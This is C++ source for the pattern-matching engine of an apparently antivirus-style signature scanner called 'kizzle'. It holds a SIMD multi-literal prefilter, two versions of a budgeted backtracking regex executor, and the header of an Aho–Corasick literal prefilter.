      plan.hi_[p][half + (c >> 4)] |= bit;
    }
  }
  // Scalar packing: 8-bit lanes for 8-bucket plans, 16-bit lanes (low byte
  // = buckets 0–7, high byte = 8–15) for Fat.
  const unsigned lane_bits = n_buckets == kFatBuckets ? 16 : 8;
  for (std::size_t nb = 0; nb < 16; ++nb) {
    std::uint64_t lo = 0;
    std::uint64_t hi = 0;
    for (std::size_t p = 0; p < 4; ++p) {
      std::uint64_t lo_mask = plan.lo_[p][nb];
      std::uint64_t hi_mask = plan.hi_[p][nb];
      if (lane_bits == 16) {
        lo_mask |= static_cast<std::uint64_t>(plan.lo_[p][16 + nb]) << 8;
        hi_mask |= static_cast<std::uint64_t>(plan.hi_[p][16 + nb]) << 8;
      }
      lo |= lo_mask << (lane_bits * p);
      hi |= hi_mask << (lane_bits * p);
    }
    plan.lo64_[nb] = lo;
    plan.hi64_[nb] = hi;
  }

  // Per-bucket confirmation index: the bucket's literals keyed by their
  // rare window (already window-sorted via the global sort, but sorted
  // again so the invariant never silently depends on it).
  plan.entries_.reserve(n);
  for (std::size_t b = 0; b < n_buckets; ++b) {
    plan.bucket_begin_[b] = static_cast<std::uint32_t>(plan.entries_.size());
    for (std::size_t i = 0; i < n; ++i) {
      if (bucket_of[i] != b) continue;
      plan.entries_.push_back(
          Entry{plan.window_key(plan.lits_[i].text.data() + plan.off_[i]),
                static_cast<std::uint32_t>(i)});
    }
    std::sort(plan.entries_.begin() + plan.bucket_begin_[b],
              plan.entries_.end(), [](const Entry& a, const Entry& b2) {
                return a.window != b2.window ? a.window < b2.window
                                             : a.literal < b2.literal;
              });
  }
  for (std::size_t b = n_buckets; b <= kFatBuckets; ++b) {
    plan.bucket_begin_[b] = static_cast<std::uint32_t>(plan.entries_.size());
  }

  // Hit-density estimate from the finished masks: a bucket fires at a text
  // position exactly when every window row admits the byte there, so under
  // an independent byte_prior model its per-byte rate is the product over
  // rows of the admitted bytes' probability mass. Reading the masks back
  // (rather than the literals) prices bucket crowding the way the kernels
  // see it: literals sharing a bucket OR their rows together.
  double any_miss = 1.0;
  for (std::size_t b = 0; b < n_buckets; ++b) {
    const std::size_t half = b < 8 ? 0 : 16;
    const auto bbit = static_cast<std::uint8_t>(1u << (b & 7));
    double rate = 1.0;
    for (std::size_t p = 0; p < plan.k_; ++p) {
      double mass = 0.0;
      for (int c = 0; c < 256; ++c) {
        const auto uc = static_cast<unsigned char>(c);
        if ((plan.lo_[p][half + (uc & 15)] & plan.hi_[p][half + (uc >> 4)] &
             bbit) != 0) {
          mass += byte_prior_probability(uc);
        }
      }
      rate *= mass;
    }
    any_miss *= 1.0 - std::min(rate, 1.0);
  }
  plan.hit_density_ = 1.0 - any_miss;
  return plan;
}

void Plan::scan(std::string_view text, HitBuffer& hits) const {
  scan(text, hits, best_impl());
}

void Plan::scan(std::string_view text, HitBuffer& hits, Impl impl) const {
  hits.clear();
  if (text.size() < k_) return;
  const auto* data = reinterpret_cast<const unsigned char*>(text.data());
  if (!impl_available(impl)) impl = Impl::kScalar;
  if (n_buckets_ == kFatBuckets) {
    // Fat plans have an AVX2 kernel and the 16-bit-lane scalar shift-or;
    // SSSE3 has no 16-bucket variant, so it shares the scalar path (hit
    // sequences are byte-identical either way).
#if KIZZLE_TEDDY_X86
    if (impl == Impl::kAvx2) {
      scan_avx2_fat(lo_, hi_, k_, data, text.size(), hits);
      return;
    }
#endif
    scan_scalar(lo64_, hi64_, k_, 16, data, text.size(), hits);
    return;
  }
  switch (impl) {
#if KIZZLE_TEDDY_X86
    case Impl::kAvx2:
      scan_avx2(lo_, hi_, k_, data, text.size(), hits);
      return;
    case Impl::kSsse3:
      scan_ssse3(lo_, hi_, k_, data, text.size(), hits);
      return;
#else
    case Impl::kAvx2:
    case Impl::kSsse3:
#endif
    case Impl::kScalar:
      scan_scalar(lo64_, hi64_, k_, 8, data, text.size(), hits);
      return;
  }
}

std::size_t Plan::confirm(std::string_view text, const HitBuffer& hits,
                          std::vector<std::uint8_t>& seen,
                          std::vector<std::size_t>& out, std::size_t n_seen,
                          std::size_t stop_at,
                          std::vector<std::uint32_t>* hint_at) const {
  const char* base = text.data();
  for (const Hit& hit : hits) {
    if (n_seen >= stop_at) break;
    const std::size_t at = hit.at;
    const std::uint32_t key = window_key(base + at);
    unsigned m = hit.buckets;
    while (m != 0) {
      const auto b = static_cast<unsigned>(__builtin_ctz(m));
      m &= m - 1;
      const Entry* e = entries_.data() + bucket_begin_[b];
      const Entry* e_end = entries_.data() + bucket_begin_[b + 1];
      e = std::lower_bound(e, e_end, key,
                           [](const Entry& x, std::uint32_t want) {
                             return x.window < want;
                           });
      for (; e != e_end && e->window == key; ++e) {
        const Literal& lit = lits_[e->literal];
        if (seen[lit.id] != 0) continue;
        // The matched window sits `off` bytes into the literal: the
        // occurrence would start at at-off and must fit the text.
        const std::size_t off = off_[e->literal];
        if (at < off || at - off + lit.text.size() > text.size()) continue;
        const char* start = base + (at - off);
        if (std::memcmp(start, lit.text.data(), off) != 0) continue;
        if (std::memcmp(start + off + k_, lit.text.data() + off + k_,
                        lit.text.size() - off - k_) != 0) {
          continue;
        }
        seen[lit.id] = 1;
        out.push_back(lit.id);
        if (hint_at != nullptr) {
          (*hint_at)[lit.id] = static_cast<std::uint32_t>(at - off);
        }
        ++n_seen;
      }
    }
  }
  return n_seen;
}

// ------------------------------- plan set -------------------------------

std::optional<PlanSet> PlanSet::build(std::vector<Literal> literals) {
  if (literals.empty()) return std::nullopt;
  // Length classes keyed by window length K = min(4, len): every literal
  // in a shard must be at least K bytes, and mixing a 1-byte literal into
  // a long-literal shard would drag the whole shard down to K=1. Classes
  // beyond the per-shard capacity split into near-even shards.
  std::array<std::vector<Literal>, 5> classes;
  for (Literal& lit : literals) {
    if (lit.text.empty()) continue;  // the prefilter never registers these
    classes[std::min<std::size_t>(4, lit.text.size())].push_back(
        std::move(lit));
  }

  PlanSet set;
  // Long-literal classes first: their windows are the most selective, so
  // on hot texts they reach stop_at soonest and the dense short shards are
  // skipped entirely once everything is already seen.
  for (int kclass = 4; kclass >= 1; --kclass) {
    std::vector<Literal>& cls = classes[static_cast<std::size_t>(kclass)];
    if (cls.empty()) continue;
    const std::size_t n_shards =
        (cls.size() + Plan::kShardMaxLiterals - 1) / Plan::kShardMaxLiterals;
    const std::size_t per = (cls.size() + n_shards - 1) / n_shards;
    for (std::size_t s = 0; s < n_shards; ++s) {
      const std::size_t begin = s * per;
      const std::size_t end = std::min(cls.size(), begin + per);
      std::vector<Literal> shard_lits(
          std::make_move_iterator(cls.begin() + static_cast<std::ptrdiff_t>(begin)),
          std::make_move_iterator(cls.begin() + static_cast<std::ptrdiff_t>(end)));
      const std::size_t buckets = shard_lits.size() > kFatThreshold
                                      ? Plan::kFatBuckets
                                      : Plan::kBuckets;
      std::optional<Plan> plan = Plan::build(std::move(shard_lits), buckets);
      if (!plan.has_value()) return std::nullopt;  // unreachable by sizing
      set.max_len_ = std::max(set.max_len_, plan->max_literal_len());
      set.shards_.push_back(std::move(*plan));
    }
  }
  if (set.shards_.empty()) return std::nullopt;
  return set;
}

std::size_t PlanSet::literal_count() const {
  std::size_t n = 0;
  for (const Plan& shard : shards_) n += shard.literal_count();
  return n;
}

double PlanSet::expected_hits_per_byte() const {
  double sum = 0.0;
  for (const Plan& shard : shards_) sum += shard.hit_density_estimate();
  return sum;
}

std::size_t PlanSet::find(std::string_view text, HitBuffer& hits,
                          std::vector<std::uint8_t>& seen,
                          std::vector<std::size_t>& out, std::size_t n_seen,
                          std::size_t stop_at, ScanCounters* counters,
                          std::vector<std::uint32_t>* hint_at,
                          const std::vector<std::uint8_t>* skip_shard) const {
  for (std::size_t i = 0; i < shards_.size(); ++i) {
    if (n_seen >= stop_at) break;
    if (skip_shard != nullptr && i < skip_shard->size() &&
        (*skip_shard)[i] != 0) {
      continue;  // routed elsewhere (dense-shard automaton walk)
    }
    const Plan& shard = shards_[i];
    shard.scan(text, hits);
    if (counters != nullptr) {
      counters->first_stage_hits += hits.size();
      ++counters->shards_scanned;
    }
    n_seen = shard.confirm(text, hits, seen, out, n_seen, stop_at, hint_at);
  }
  return n_seen;
}

}  // namespace kizzle::match::teddy
