// Backtracking executor for compiled patterns, plus the literal-prefilter
// search strategy.
#include <algorithm>
#include <cstring>
#include <limits>

#include "match/pattern.h"
#include "match/program.h"

namespace kizzle::match {

namespace detail {

// The VM's working memory, factored out of the per-call Machine so scan
// paths can recycle it: slots/progress are sized per program, undo/stack
// grow to the backtracking high-water mark and then stay allocated.
struct VmState {
  enum class UndoKind : std::uint8_t { Slot, Progress };
  struct Undo {
    UndoKind kind;
    std::uint32_t index;
    std::size_t value;
  };
  struct Frame {
    std::uint32_t pc;
    std::size_t sp;
    std::size_t undo_size;
  };

  std::vector<std::size_t> slots;
  std::vector<std::size_t> progress;
  std::vector<Undo> undo;
  std::vector<Frame> stack;
};

}  // namespace detail

VmScratch::VmScratch() : state_(std::make_unique<detail::VmState>()) {}
VmScratch::~VmScratch() = default;
VmScratch::VmScratch(VmScratch&&) noexcept = default;
VmScratch& VmScratch::operator=(VmScratch&&) noexcept = default;

namespace {

using detail::Instr;
using detail::Op;
using detail::Program;
using detail::VmState;

constexpr std::size_t kUnset = std::numeric_limits<std::size_t>::max();
constexpr std::uint64_t kDefaultBudget = 1u << 22;

// One backtracking attempt anchored at `start`. Returns true on match and
// fills `state.slots` (2 per group). `steps` is decremented as budget.
class Machine {
 public:
  Machine(const Program& prog, std::string_view text, VmState& state)
      : prog_(prog), text_(text), st_(state) {
    st_.slots.assign(2 * (prog.n_groups + 1), kUnset);
    st_.progress.assign(prog.n_progress, kUnset);
  }

  bool run(std::size_t start, std::uint64_t* steps, bool* budget_exceeded) {
    std::fill(st_.slots.begin(), st_.slots.end(), kUnset);
    std::fill(st_.progress.begin(), st_.progress.end(), kUnset);
    st_.undo.clear();
    st_.stack.clear();

    std::uint32_t pc = 0;
    std::size_t sp = start;
    for (;;) {
      if (*steps == 0) {
        *budget_exceeded = true;
        return false;
      }
      --*steps;
      const Instr& ins = prog_.code[pc];
      bool fail = false;
      switch (ins.op) {
        case Op::Char:
          if (sp < text_.size() &&
              static_cast<unsigned char>(text_[sp]) == ins.x) {
            ++sp;
            ++pc;
          } else {
            fail = true;
          }
          break;
        case Op::Class:
          if (sp < text_.size() &&
              prog_.classes[ins.x][static_cast<unsigned char>(text_[sp])]) {
            ++sp;
            ++pc;
          } else {
            fail = true;
          }
          break;
        case Op::Any:
          if (sp < text_.size() && text_[sp] != '\n') {
            ++sp;
            ++pc;
          } else {
            fail = true;
          }
          break;
        case Op::Bol:
          if (sp == 0) {
            ++pc;
          } else {
            fail = true;
          }
          break;
        case Op::Eol:
          if (sp == text_.size()) {
            ++pc;
          } else {
            fail = true;
          }
          break;
        case Op::Save:
          push_undo(VmState::UndoKind::Slot, ins.x, st_.slots[ins.x]);
          st_.slots[ins.x] = sp;
          ++pc;
          break;
        case Op::Progress:
          if (st_.progress[ins.x] == sp) {
            fail = true;
          } else {
            push_undo(VmState::UndoKind::Progress, ins.x, st_.progress[ins.x]);
            st_.progress[ins.x] = sp;
            ++pc;
          }
          break;
        case Op::Backref: {
          const std::size_t b = st_.slots[2 * ins.x];
          const std::size_t e = st_.slots[2 * ins.x + 1];
          if (b == kUnset || e == kUnset) {
            ++pc;  // unmatched group: matches empty (ECMAScript semantics)
            break;
          }
          const std::size_t len = e - b;
          if (sp + len <= text_.size() &&
              std::memcmp(text_.data() + sp, text_.data() + b, len) == 0) {
            sp += len;
            ++pc;
          } else {
            fail = true;
          }
          break;
        }
        case Op::Split:
          st_.stack.push_back(VmState::Frame{ins.y, sp, st_.undo.size()});
          pc = ins.x;
          break;
        case Op::Jmp:
          pc = ins.x;
          break;
        case Op::Match:
          return true;
      }
      if (fail) {
        if (st_.stack.empty()) return false;
        const VmState::Frame f = st_.stack.back();
        st_.stack.pop_back();
        while (st_.undo.size() > f.undo_size) {
          const VmState::Undo& u = st_.undo.back();
          if (u.kind == VmState::UndoKind::Slot) {
            st_.slots[u.index] = u.value;
          } else {
            st_.progress[u.index] = u.value;
          }
          st_.undo.pop_back();
        }
        pc = f.pc;
        sp = f.sp;
      }
    }
  }

  const std::vector<std::size_t>& slots() const { return st_.slots; }

 private:
  void push_undo(VmState::UndoKind kind, std::uint32_t index,
                 std::size_t value) {
    st_.undo.push_back(VmState::Undo{kind, index, value});
  }

  const Program& prog_;
  std::string_view text_;
  VmState& st_;
};

MatchResult result_from(const Machine& m, const Program& prog, bool matched,
                        bool budget_exceeded) {
  MatchResult r;
  r.budget_exceeded = budget_exceeded;
  if (!matched) return r;
  const auto& slots = m.slots();
  r.matched = true;
  r.begin = slots[0];
  r.end = slots[1];
  r.groups.resize(prog.n_groups + 1);
  for (std::size_t g = 1; g <= prog.n_groups; ++g) {
    const std::size_t b = slots[2 * g];
    const std::size_t e = slots[2 * g + 1];
    if (b != kUnset && e != kUnset) r.groups[g] = Capture{b, e};
  }
  return r;
}

SpanResult span_from(const Machine& m, bool matched, bool budget_exceeded) {
  SpanResult r;
  r.budget_exceeded = budget_exceeded;
  if (!matched) return r;
  r.matched = true;
  r.begin = m.slots()[0];
  r.end = m.slots()[1];
  return r;
}

// Search paths with no caller-provided scratch recycle one per-thread
// VmState: search() is re-entered fresh on every call (a Machine never
// survives a return), so the state cannot be observed mid-use.
VmState& local_state() {
  thread_local VmState state;
  return state;
}

// The shared search strategy: literal quick-reject, then VM attempts at
// the positions the literal prefilter allows. `m` carries the state to
// reuse; on return `matched`/`budget_exceeded` describe the outcome and
// the machine's slots hold the span of the winning attempt.
bool search_core(const Program& prog, std::string_view text, std::size_t from,
                 std::uint64_t* budget, Machine& m, bool* budget_exceeded) {
  if (prog.anchored_bol) {
    if (from > 0) return false;
    // Literal quick-reject applies here too: a match must contain the
    // literal, so its absence means no VM run (and no budget charged) —
    // keeping anchored patterns consistent with the database-level
    // prefilter's skip. With a bounded offset the literal must sit in the
    // text's prefix; don't scan the whole sample for it.
    if (prog.lit_usable) {
      std::string_view window = text;
      if (prog.lit_max_prefix != std::numeric_limits<std::size_t>::max()) {
        window = text.substr(
            0, std::min(text.size(),
                        prog.lit_max_prefix + prog.literal.size()));
      }
      if (window.find(prog.literal) == std::string_view::npos) {
        return false;
      }
    }
    return m.run(0, budget, budget_exceeded);
  }

  if (prog.lit_usable) {
    const std::string& lit = prog.literal;
    const bool bounded =
        prog.lit_max_prefix != std::numeric_limits<std::size_t>::max();
    std::size_t search_from =
        (from + prog.lit_min_prefix <= text.size()) ? from + prog.lit_min_prefix
                                                    : std::string_view::npos;
    if (bounded) {
      std::size_t last_attempt_end = from;  // first untried start position
      while (search_from != std::string_view::npos) {
        const std::size_t hit = text.find(lit, search_from);
        if (hit == std::string_view::npos) return false;
        const std::size_t lo =
            std::max(last_attempt_end,
                     (hit >= prog.lit_max_prefix) ? hit - prog.lit_max_prefix
                                                  : 0);
        const std::size_t hi = hit - prog.lit_min_prefix;  // hit >= min here
        for (std::size_t start = lo; start <= hi && start <= text.size();
             ++start) {
          if (m.run(start, budget, budget_exceeded)) return true;
          if (*budget_exceeded) return false;
        }
        last_attempt_end = (hi + 1 > last_attempt_end) ? hi + 1 : last_attempt_end;
        search_from = hit + 1;
      }
      return false;
    }
    // Quick-reject only: the literal must occur somewhere at/after from.
    if (text.find(lit, from) == std::string_view::npos) return false;
  }

  for (std::size_t start = from; start <= text.size(); ++start) {
    if (m.run(start, budget, budget_exceeded)) return true;
    if (*budget_exceeded) return false;
  }
  return false;
}

// ------------------------- compiled confirmation -------------------------
//
// The cheap-confirmation executor for kLiteral / kLiteralDominated
// patterns (see ConfirmProgram in program.h for the equivalence
// argument). Nothing here charges the step budget: the walk is bounded at
// classification time, so it cannot blow up.

// Greedy bounded suffix walk, mirroring the VM's backtracking priority:
// each class step tries its longest feasible count first and the LAST
// step's count varies fastest (the VM backtracks the most recent choice
// point first). On success *end is the position after the final step.
bool confirm_suffix(const Program& prog, const std::vector<detail::ConfirmStep>& steps,
                    std::size_t idx, std::string_view text, std::size_t pos,
                    std::size_t* end) {
  if (idx == steps.size()) {
    *end = pos;
    return true;
  }
  const detail::ConfirmStep& step = steps[idx];
  if (step.kind == detail::ConfirmStep::Kind::kLiteral) {
    if (pos + step.lit.size() > text.size() ||
        std::memcmp(text.data() + pos, step.lit.data(), step.lit.size()) !=
            0) {
      return false;
    }
    return confirm_suffix(prog, steps, idx + 1, text, pos + step.lit.size(),
                          end);
  }
  const detail::ByteSet& set = prog.classes[step.cls];
  std::size_t feasible = 0;  // longest run of set bytes at pos, capped
  while (feasible < step.max && pos + feasible < text.size() &&
         set[static_cast<unsigned char>(text[pos + feasible])]) {
    ++feasible;
  }
  for (std::size_t count = feasible; count + 1 > step.min; --count) {
    if (confirm_suffix(prog, steps, idx + 1, text, pos + count, end)) {
      return true;
    }
  }
  return false;
}

// Fixed-width prefix check: every step must consume exactly its width.
bool confirm_prefix(const Program& prog,
                    const std::vector<detail::ConfirmStep>& steps,
                    std::string_view text, std::size_t pos) {
  for (const detail::ConfirmStep& step : steps) {
    if (step.kind == detail::ConfirmStep::Kind::kLiteral) {
      if (std::memcmp(text.data() + pos, step.lit.data(), step.lit.size()) !=
          0) {
        return false;
      }
      pos += step.lit.size();
      continue;
    }
    const detail::ByteSet& set = prog.classes[step.cls];
    for (std::uint32_t i = 0; i < step.min; ++i) {  // min == max (fixed)
      if (!set[static_cast<unsigned char>(text[pos++])]) return false;
    }
  }
  return true;
}

SpanResult confirm_dominated(const Program& prog, std::string_view text,
                             std::size_t from, std::size_t anchor_hint) {
  const detail::ConfirmProgram& cp = prog.confirm;
  SpanResult r;
  // A match starting at s >= from has the anchor at exactly
  // s + prefix_width, so ascending anchor occurrences enumerate candidate
  // starts in leftmost order; the first fully-verified one wins.
  std::size_t search_from = from + cp.prefix_width;
  // A hint is the anchor's leftmost occurrence (prefilter tier 2 verified
  // the bytes), so nothing can match in [search_from, hint): jump straight
  // there. The bytes are re-verified before trusting the jump.
  if (anchor_hint != std::string_view::npos && anchor_hint >= search_from &&
      anchor_hint + cp.anchor.size() <= text.size() &&
      std::memcmp(text.data() + anchor_hint, cp.anchor.data(),
                  cp.anchor.size()) == 0) {
    search_from = anchor_hint;
  }
  while (search_from <= text.size()) {
    const std::size_t occ = text.find(cp.anchor, search_from);
    if (occ == std::string_view::npos) return r;
    const std::size_t start = occ - cp.prefix_width;
    std::size_t end = 0;
    if (confirm_prefix(prog, cp.prefix, text, start) &&
        confirm_suffix(prog, cp.suffix, 0, text, occ + cp.anchor.size(),
                       &end)) {
      r.matched = true;
      r.begin = start;
      r.end = end;
      return r;
    }
    search_from = occ + 1;
  }
  return r;
}

}  // namespace

SpanResult Pattern::confirm_span(std::string_view text, VmScratch& scratch,
                                 std::size_t from, std::uint64_t budget,
                                 std::size_t anchor_hint) const {
  const Program& prog = *program_;
  // The hint promises the leftmost occurrence of required_literal(); it is
  // only usable when that string IS the confirm anchor.
  if (!prog.confirm_hintable) anchor_hint = knpos;
  switch (prog.tier) {
    case ConfirmTier::kLiteral: {
      SpanResult r;
      if (from > text.size()) return r;
      if (anchor_hint != knpos && anchor_hint >= from &&
          anchor_hint + prog.confirm.anchor.size() <= text.size() &&
          std::memcmp(text.data() + anchor_hint, prog.confirm.anchor.data(),
                      prog.confirm.anchor.size()) == 0) {
        r.matched = true;
        r.begin = anchor_hint;
        r.end = anchor_hint + prog.confirm.anchor.size();
        return r;
      }
      const std::size_t hit = text.find(prog.confirm.anchor, from);
      if (hit != std::string_view::npos) {
        r.matched = true;
        r.begin = hit;
        r.end = hit + prog.confirm.anchor.size();
      }
      return r;
    }
    case ConfirmTier::kLiteralDominated:
      if (from > text.size()) return SpanResult{};
      return confirm_dominated(prog, text, from, anchor_hint);
    case ConfirmTier::kRegex:
      break;
  }
  return search_span(text, scratch, from, budget);
}

MatchResult Pattern::match_at(std::string_view text, std::size_t at,
                              std::uint64_t budget) const {
  if (budget == 0) budget = kDefaultBudget;
  Machine m(*program_, text, local_state());
  bool budget_exceeded = false;
  const bool ok = m.run(at, &budget, &budget_exceeded);
  return result_from(m, *program_, ok, budget_exceeded);
}

MatchResult Pattern::search(std::string_view text, std::size_t from,
                            std::uint64_t budget) const {
  if (budget == 0) budget = kDefaultBudget;
  Machine m(*program_, text, local_state());
  bool budget_exceeded = false;
  const bool ok =
      search_core(*program_, text, from, &budget, m, &budget_exceeded);
  return result_from(m, *program_, ok, budget_exceeded);
}

SpanResult Pattern::search_span(std::string_view text, VmScratch& scratch,
                                std::size_t from, std::uint64_t budget) const {
  if (budget == 0) budget = kDefaultBudget;
  Machine m(*program_, text, *scratch.state_);
  bool budget_exceeded = false;
  const bool ok =
      search_core(*program_, text, from, &budget, m, &budget_exceeded);
  return span_from(m, ok, budget_exceeded);
}

}  // namespace kizzle::match
