// Backtracking executor for compiled patterns, plus the literal-prefilter
// search strategy.
#include <algorithm>
#include <cstring>
#include <limits>

#include "match/pattern.h"
#include "match/program.h"

namespace kizzle::match {

namespace {

using detail::Instr;
using detail::Op;
using detail::Program;

constexpr std::size_t kUnset = std::numeric_limits<std::size_t>::max();
constexpr std::uint64_t kDefaultBudget = 1u << 22;

// One backtracking attempt anchored at `start`. Returns true on match and
// fills `slots` (2 per group). `steps` is decremented as budget.
class Machine {
 public:
  Machine(const Program& prog, std::string_view text)
      : prog_(prog),
        text_(text),
        slots_(2 * (prog.n_groups + 1), kUnset),
        progress_(prog.n_progress, kUnset) {}

  bool run(std::size_t start, std::uint64_t* steps, bool* budget_exceeded) {
    std::fill(slots_.begin(), slots_.end(), kUnset);
    std::fill(progress_.begin(), progress_.end(), kUnset);
    undo_.clear();
    stack_.clear();

    std::uint32_t pc = 0;
    std::size_t sp = start;
    for (;;) {
      if (*steps == 0) {
        *budget_exceeded = true;
        return false;
      }
      --*steps;
      const Instr& ins = prog_.code[pc];
      bool fail = false;
      switch (ins.op) {
        case Op::Char:
          if (sp < text_.size() &&
              static_cast<unsigned char>(text_[sp]) == ins.x) {
            ++sp;
            ++pc;
          } else {
            fail = true;
          }
          break;
        case Op::Class:
          if (sp < text_.size() &&
              prog_.classes[ins.x][static_cast<unsigned char>(text_[sp])]) {
            ++sp;
            ++pc;
          } else {
            fail = true;
          }
          break;
        case Op::Any:
          if (sp < text_.size() && text_[sp] != '\n') {
            ++sp;
            ++pc;
          } else {
            fail = true;
          }
          break;
        case Op::Bol:
          if (sp == 0) {
            ++pc;
          } else {
            fail = true;
          }
          break;
        case Op::Eol:
          if (sp == text_.size()) {
            ++pc;
          } else {
            fail = true;
          }
          break;
        case Op::Save:
          push_undo(UndoKind::Slot, ins.x, slots_[ins.x]);
          slots_[ins.x] = sp;
          ++pc;
          break;
        case Op::Progress:
          if (progress_[ins.x] == sp) {
            fail = true;
          } else {
            push_undo(UndoKind::Progress, ins.x, progress_[ins.x]);
            progress_[ins.x] = sp;
            ++pc;
          }
          break;
        case Op::Backref: {
          const std::size_t b = slots_[2 * ins.x];
          const std::size_t e = slots_[2 * ins.x + 1];
          if (b == kUnset || e == kUnset) {
            ++pc;  // unmatched group: matches empty (ECMAScript semantics)
            break;
          }
          const std::size_t len = e - b;
          if (sp + len <= text_.size() &&
              std::memcmp(text_.data() + sp, text_.data() + b, len) == 0) {
            sp += len;
            ++pc;
          } else {
            fail = true;
          }
          break;
        }
        case Op::Split:
          stack_.push_back(Frame{ins.y, sp, undo_.size()});
          pc = ins.x;
          break;
        case Op::Jmp:
          pc = ins.x;
          break;
        case Op::Match:
          return true;
      }
      if (fail) {
        if (stack_.empty()) return false;
        const Frame f = stack_.back();
        stack_.pop_back();
        while (undo_.size() > f.undo_size) {
          const Undo& u = undo_.back();
          if (u.kind == UndoKind::Slot) {
            slots_[u.index] = u.value;
          } else {
            progress_[u.index] = u.value;
          }
          undo_.pop_back();
        }
        pc = f.pc;
        sp = f.sp;
      }
    }
  }

  const std::vector<std::size_t>& slots() const { return slots_; }

 private:
  enum class UndoKind : std::uint8_t { Slot, Progress };
  struct Undo {
    UndoKind kind;
    std::uint32_t index;
    std::size_t value;
  };
  struct Frame {
    std::uint32_t pc;
    std::size_t sp;
    std::size_t undo_size;
  };

  void push_undo(UndoKind kind, std::uint32_t index, std::size_t value) {
    undo_.push_back(Undo{kind, index, value});
  }

  const Program& prog_;
  std::string_view text_;
  std::vector<std::size_t> slots_;
  std::vector<std::size_t> progress_;
  std::vector<Undo> undo_;
  std::vector<Frame> stack_;
};

MatchResult result_from(const Machine& m, const Program& prog, bool matched,
                        bool budget_exceeded) {
  MatchResult r;
  r.budget_exceeded = budget_exceeded;
  if (!matched) return r;
  const auto& slots = m.slots();
  r.matched = true;
  r.begin = slots[0];
  r.end = slots[1];
  r.groups.resize(prog.n_groups + 1);
  for (std::size_t g = 1; g <= prog.n_groups; ++g) {
    const std::size_t b = slots[2 * g];
    const std::size_t e = slots[2 * g + 1];
    if (b != kUnset && e != kUnset) r.groups[g] = Capture{b, e};
  }
  return r;
}

}  // namespace

MatchResult Pattern::match_at(std::string_view text, std::size_t at,
                              std::uint64_t budget) const {
  if (budget == 0) budget = kDefaultBudget;
  Machine m(*program_, text);
  bool budget_exceeded = false;
  const bool ok = m.run(at, &budget, &budget_exceeded);
  return result_from(m, *program_, ok, budget_exceeded);
}

MatchResult Pattern::search(std::string_view text, std::size_t from,
                            std::uint64_t budget) const {
  if (budget == 0) budget = kDefaultBudget;
  const Program& prog = *program_;
  Machine m(prog, text);
  bool budget_exceeded = false;

  if (prog.anchored_bol) {
    if (from > 0) return MatchResult{};
    // Literal quick-reject applies here too: a match must contain the
    // literal, so its absence means no VM run (and no budget charged) —
    // keeping anchored patterns consistent with the database-level
    // prefilter's skip. With a bounded offset the literal must sit in the
    // text's prefix; don't scan the whole sample for it.
    if (prog.lit_usable) {
      std::string_view window = text;
      if (prog.lit_max_prefix != std::numeric_limits<std::size_t>::max()) {
        window = text.substr(
            0, std::min(text.size(),
                        prog.lit_max_prefix + prog.literal.size()));
      }
      if (window.find(prog.literal) == std::string_view::npos) {
        return MatchResult{};
      }
    }
    const bool ok = m.run(0, &budget, &budget_exceeded);
    return result_from(m, prog, ok, budget_exceeded);
  }

  if (prog.lit_usable) {
    const std::string& lit = prog.literal;
    const bool bounded =
        prog.lit_max_prefix != std::numeric_limits<std::size_t>::max();
    std::size_t search_from =
        (from + prog.lit_min_prefix <= text.size()) ? from + prog.lit_min_prefix
                                                    : std::string_view::npos;
    if (bounded) {
      std::size_t last_attempt_end = from;  // first untried start position
      while (search_from != std::string_view::npos) {
        const std::size_t hit = text.find(lit, search_from);
        if (hit == std::string_view::npos) return MatchResult{};
        const std::size_t lo =
            std::max(last_attempt_end,
                     (hit >= prog.lit_max_prefix) ? hit - prog.lit_max_prefix
                                                  : 0);
        const std::size_t hi = hit - prog.lit_min_prefix;  // hit >= min here
        for (std::size_t start = lo; start <= hi && start <= text.size();
             ++start) {
          const bool ok = m.run(start, &budget, &budget_exceeded);
          if (ok) return result_from(m, prog, true, budget_exceeded);
          if (budget_exceeded) return result_from(m, prog, false, true);
        }
        last_attempt_end = (hi + 1 > last_attempt_end) ? hi + 1 : last_attempt_end;
        search_from = hit + 1;
      }
      return MatchResult{};
    }
    // Quick-reject only: the literal must occur somewhere at/after from.
    if (text.find(lit, from) == std::string_view::npos) return MatchResult{};
  }

  for (std::size_t start = from; start <= text.size(); ++start) {
    const bool ok = m.run(start, &budget, &budget_exceeded);
    if (ok) return result_from(m, prog, true, budget_exceeded);
    if (budget_exceeded) return result_from(m, prog, false, true);
  }
  return MatchResult{};
}

}  // namespace kizzle::match
