// Shared multi-pattern literal prefilter.
//
// A deployed signature database is scanned against every sample; running
// each pattern's own memmem pass makes whole-database scanning
// O(signatures × text). Real AV engines avoid that wall with multi-pattern
// literal matching: one streaming pass over the text determines which
// signatures could possibly match, and only those run the (expensive)
// backtracking VM.
//
// LiteralPrefilter is an Aho–Corasick automaton over the required_literal()
// of every registered pattern. Patterns whose literal occurs in the text
// become candidates; patterns with no usable literal (pure `.*`/class
// patterns, literals shorter than the usefulness threshold) go on a
// fallback list and are *always* candidates, so prefiltered scanning is
// exactly equivalent to brute force: a pattern is only skipped when its
// required literal — which every match must contain — is absent, in which
// case Pattern::search would have rejected it via its own memmem
// quick-check without running the VM (and without charging the budget).
//
// Build once, then share freely: candidates() is const and thread-safe, so
// one automaton serves any number of concurrent batch-scan workers.
#pragma once

#include <array>
#include <atomic>
#include <cstdint>
#include <mutex>
#include <string>
#include <string_view>
#include <vector>

namespace kizzle::match {

class LiteralPrefilter {
 public:
  // Registers pattern `id` under `literal`. An empty literal means the
  // pattern has no usable required literal; it goes on the fallback list.
  // Distinct ids may share one literal; each occurrence reports all of
  // them.
  void add(std::size_t id, std::string_view literal);

  // Freezes the automaton. Must be called after the last add() and before
  // the first candidates(). May be called again after further add()s.
  void build();

  bool built() const { return built_; }

  // Total registered ids, and how many of them sit on the fallback list.
  std::size_t id_count() const { return n_ids_; }
  std::size_t fallback_count() const { return fallback_.size(); }

  // One streaming pass over `text`: every id whose literal occurs in
  // `text`, merged with the fallback ids. Sorted ascending, deduplicated —
  // callers that want brute-force-identical first-match semantics just
  // iterate in order and stop at the first hit. Thread-safe.
  std::vector<std::size_t> candidates(std::string_view text) const;

  // Same, reusing `out` to avoid per-call allocation on hot paths.
  void candidates_into(std::string_view text,
                       std::vector<std::size_t>& out) const;

  // Ids with no usable literal (always candidates), sorted ascending.
  const std::vector<std::size_t>& fallback_ids() const { return fallback_; }

 private:
  struct Keyword {
    std::string literal;
    std::size_t id;
  };

  std::vector<Keyword> keywords_;
  std::vector<std::size_t> fallback_;
